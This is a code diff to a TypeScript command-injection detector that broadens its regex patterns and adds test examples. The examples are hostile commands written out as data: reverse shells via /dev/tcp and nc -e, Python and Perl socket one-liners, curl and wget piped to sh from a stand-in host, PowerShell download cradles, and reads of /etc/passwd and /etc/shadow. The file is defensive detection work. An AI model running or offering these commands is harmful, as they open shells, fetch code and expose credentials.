@@ -15,6 +15,20 @@ const definesOwn = /^[;\n]\s{0,6}alias\s/;
 
 /** What breaks out of a command line before a loop or a branch. */
 const breaksOut = /(?:[;|&`)'"]|\$\()[^\S\n]{0,8}$/;
+const ownArgument = /-c\s{1,4}(?:"([^"\n`\\]{1,200})"|'([^'\n]{1,200})')/y;
+
+/** Whether `bash -c` runs more than a quoted program of the writer's own. */
+function runsMore(text: ByteString, start: number, end: number): boolean {
+  if (!text.startsWith('-c', end - 2)) return true;
+  ownArgument.lastIndex = end - 2;
+  const found = ownArgument.exec(text);
+  return found === null || !followsCommand(text, start) || !isOwnProgram(found[1] ?? found[2]!);
+}
+
+/** A sentence about PowerShell, or a script beside it that it runs. */
+const powershellOfText =
+  /^PowerShell Get-|^powershell(?:\.exe)? (?:-(?:NoProfile|ExecutionPolicy \w{4,16}) ){0,2}-File (?:\.[\\/])?[\w-]{1,40}\.ps1(?:\s|$)/i;
+
 const endOfProgram = /(?<=[;\n]\s{0,8})(?:done|fi|esac)\b/;
 /** Bytes of a shell program that are looked at. */
 const programBytesMax = 600;
@@ -23,6 +37,8 @@ const programBytesMax = 600;
 function doesMore(text: ByteString, start: number): boolean {
   // The end of a loop: what stands before it is its program.
   if (text.charAt(start) === ';') {
+    if (!/[;\n]\s{0,8}do\b/.test(text.slice(Math.max(0, start - programBytesMax), start)))
+      return false;
     return !isOwnProgram(text.slice(Math.max(0, start - programBytesMax), start));
   }
   if (breaksOut.test(text.slice(Math.max(0, start - 12), start))) return true;
@@ -92,7 +108,7 @@ const rows: readonly PatternDetector[] = [
         ...['if [ 1 ]; then id; fi', 'for i in a; do cat /etc/hosts; done'],
       ],
       benign: [
-        ...['if so; then what', 'work; done.', 'while away'],
+        ...['if so; then what', 'work; done.', 'while away', 'for each v: d = 1; done'],
         ...['for i in a; do echo $i; done', 'for f in *.jpg; do convert "$f" "small/$f"; done'],
       ],
     },
@@ -137,16 +153,27 @@ const rows: readonly PatternDetector[] = [
     confirmedBy: [932],
     needs: 0,
     literals: [
-      ...words('/dev/ nc. ncat. netcat bash'),
+      ...words('/dev/ nc. ncat. netcat bash socket pty spawn fsockopen |sh /sh dash zsh ksh'),
       ...beforeBlank('nc'),
       ...beforeBlank('ncat'),
       ...afterBlank('-i'),
     ],
     pattern:
-      /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)(?:\.\w{2,12})?\s[^;|&]{0,60}-[a-z]{0,4}[ec]\s|\b(?:ba|z|k|da)?sh\s{1,4}-i\b|\bbash\s{1,4}-c\b/g,
+      /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)(?:\.\w{2,12})?\s[^;|&]{0,60}-[a-z]{0,4}[ec]\s|\b(?:ba|z|k|da)?sh\s{1,4}-i\b|\bbash\s{1,4}-c\b|\b(?:python[\d.]{0,4}|perl|ruby|php|lua|node)\s{1,4}(?:-[\w-]{1,16}\s{1,4}){0,3}-\w{0,2}[cer]\s{0,2}["'][^\n]{0,120}?(?:\bsocket\b|\buse Socket\b|\bpty\b|\bspawn\b|fsockopen|TCPSocket|\/bin\/(?:ba|da|z|k)?sh\b)|^\s{0,4}(?:curl|wget|fetch)\s[^\n|;]{0,200}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|da|z|k)?sh\s{0,4}$/g,
+    counts: runsMore,
     examples: {
-      attacks: ['bash -i >& /dev/tcp/1.2.3.4/80', 'nc -e /bin/sh 1.2.3.4 80'],
-      benign: ['a device for tcp', 'bash is nice', 'nc state'],
+      attacks: [
+        ...['bash -i >& /dev/tcp/1.2.3.4/80', 'nc -e /bin/sh 1.2.3.4 80'],
+        `python3 -c 'import os,socket;s=socket.socket()'`,
+        `perl -e 'use Socket;$i="x.example"'`,
+        ...['curl https://x.example/a.sh|sh', 'wget -qO- x.example/a | sudo bash'],
+      ],
+      benign: [
+        ...['a device for tcp', 'bash is nice', 'nc state', 'a python socket'],
+        'do not run curl https://x.example/a.sh | sh like that',
+        'python3 -c "import sys; print(sys.version)" says',
+        'docker run --rm node:20 bash -c "npm ci && npm test"',
+      ],
     },
   },
   {
@@ -181,8 +208,8 @@ const rows: readonly PatternDetector[] = [
       ...words('/f /d /r /l').flatMap(afterBlank),
     ],
     pattern:
-      /\bcmd(?:\.exe)?["']?\s{1,4}\/[ckr]\b|^[=+@-][^\n]{0,60}\bcmd\s{0,2}\|\s{0,2}["']?\s{0,2}\/c|\bpowershell(?:\.exe)?["']?\s{1,4}(?:-\w{1,20}\s{1,4}){0,1}(?:-(?:e|en|enc\w{0,12}|c|command|nop\w{0,6}|noni\w{0,12}|w\w{0,12}|ep|exec\w{0,12}|version|file|f)\b|iex|invoke|\(|\[|get-|\$)|\b(?:iex|invoke-expression)\s{0,4}[($"']|new-object\s{1,4}(?:system\.)?net\.(?:webclient|sockets)|\bcertutil(?:\.exe)?\s{1,4}[-/](?:urlcache|decode|f)|%(?:comspec|systemroot|windir)%|\bnet(?:\.exe)?\s{1,4}(?:user|localgroup)\s[^\n]{0,60}\/add|\$env:\w|\bmshta(?:\.exe)?\s{1,4}(?:https?|vbscript|javascript):|\bfor\s{1,4}\/[fdlr]\s{1,4}["'%(]|\breg(?:\.exe)?\s{1,4}(?:query|add|delete|save)\s{1,4}["']?hk|[;|&]\s{0,4}timeout(?:\.exe)?\s{1,4}\/t|&\s{0,4}echo\s{1,4}%\w|&\s{0,4}(?:copy|del|start|move)\s{1,4}[\w.\\:/*]{1,64}(?:\s{1,4}[\w.\\:/*]{1,64})?\s{0,4}$|[;|&]\s{0,4}net(?:\.exe)?\s{1,4}(?:view|user|localgroup|start|use|share|accounts|config|session)\b|&\s{0,4}(?:dir|ver|set|type\s\S{1,64}\.(?:ini|txt|log|config))\s{0,4}(?:[&|c]|$)/gi,
-    counts: (text, start) => text.slice(start, start + 15) !== 'PowerShell Get-',
+      /\bcmd(?:\.exe)?["']?\s{1,4}\/[ckr]\b|^[=+@-][^\n]{0,60}\bcmd\s{0,2}\|\s{0,2}["']?\s{0,2}\/c|\bpowershell(?:\.exe)?["']?\s{1,4}(?:-\w{1,20}\s{1,4}){0,1}(?:-(?:e|en|enc\w{0,12}|c|command|nop\w{0,6}|noni\w{0,12}|w\w{0,12}|ep|exec\w{0,12}|version|file|f)\b|iex|invoke|\(|\[|get-|\$)|\b(?:iex|invoke-expression)\s{0,4}[($"']|new-object\s{1,4}(?:system\.)?net\.(?:webclient|sockets)|\bcertutil(?:\.exe)?\s{1,4}[-/](?:urlcache|decode|f)|%(?:comspec|systemroot|windir)%|\bnet(?:\.exe)?\s{1,4}(?:user|localgroup)\s[^\n]{0,60}\/add|\$env:\w(?!\w{0,32}\s{0,4}\+?=[^=])|\bmshta(?:\.exe)?\s{1,4}(?:https?|vbscript|javascript):|\bfor\s{1,4}\/[fdlr]\s{1,4}["'%(]|\breg(?:\.exe)?\s{1,4}(?:query|add|delete|save)\s{1,4}["']?hk|[;|&]\s{0,4}timeout(?:\.exe)?\s{1,4}\/t|&\s{0,4}echo\s{1,4}%\w|&\s{0,4}(?:copy|del|start|move)\s{1,4}[\w.\\:/*]{1,64}(?:\s{1,4}[\w.\\:/*]{1,64})?\s{0,4}$|[;|&]\s{0,4}net(?:\.exe)?\s{1,4}(?:view|user|localgroup|start|use|share|accounts|config|session)\b|&\s{0,4}(?:dir|ver|set|type\s\S{1,64}\.(?:ini|txt|log|config))\s{0,4}(?:[&|c]|$)/gi,
+    counts: (text, start) => !powershellOfText.test(text.slice(start, start + 120)),
     examples: {
       attacks: [
         ...['cmd /c dir', 'powershell -enc AAAA', 'IEX(New-Object Net.WebClient)', '1& dir'],
@@ -191,6 +218,8 @@ const rows: readonly PatternDetector[] = [
       benign: [
         ...['use cmd or powershell', 'net user group', 'get process', 'set & forget'],
         'In PowerShell Get-ChildItem lists files',
+        'powershell -ExecutionPolicy Bypass -File .\\build.ps1 fails',
+        "$env:Path += ';C:\\tools'",
       ],
     },
   },
@@ -221,9 +250,12 @@ const rows: readonly PatternDetector[] = [
     needs: SEEN.slash,
     literals: words('/etc/ /proc/'),
     pattern:
-      /(?:^|[=:])\s{0,4}(?:cat|tac|head|tail|more|less|nl|od|xxd|sort|strings|cp|curl|wget|base64)\s{1,8}(?:-{1,2}[\w=]{1,16}\s{1,8}){0,3}(?:file:\/\/)?\/(?:etc\/(?:passwd|shadow|group|hosts|issue|os-release|crontab)|proc\/(?:self|version|\d{1,7}))(?![\w-])/g,
+      /(?:^|[=:])\s{0,4}(?:\/(?:usr\/){0,1}bin\/)?(?:cat|tac|head|tail|more|less|nl|od|xxd|sort|strings|cp|curl|wget|base64)(?:\s{1,8}|\s{0,4}<\s{0,4})(?:-{1,2}[\w=]{1,16}\s{1,8}){0,3}(?:file:\/\/)?\/(?:etc\/(?:passwd|shadow|group|hosts|issue|os-release|crontab)|proc\/(?:self|version|\d{1,7}))(?![\w-])/g,
     examples: {
-      attacks: ['cat /etc/passwd', 'exec:head -1 /etc/shadow'],
+      attacks: [
+        ...['cat /etc/passwd', 'exec:head -1 /etc/shadow'],
+        ...['cat</etc/passwd', '/bin/cat /etc/passwd'],
+      ],
       benign: ['how to cat /etc/passwd', 'cat /etc/fstab.d', 'see /etc/hosts'],
     },
   },
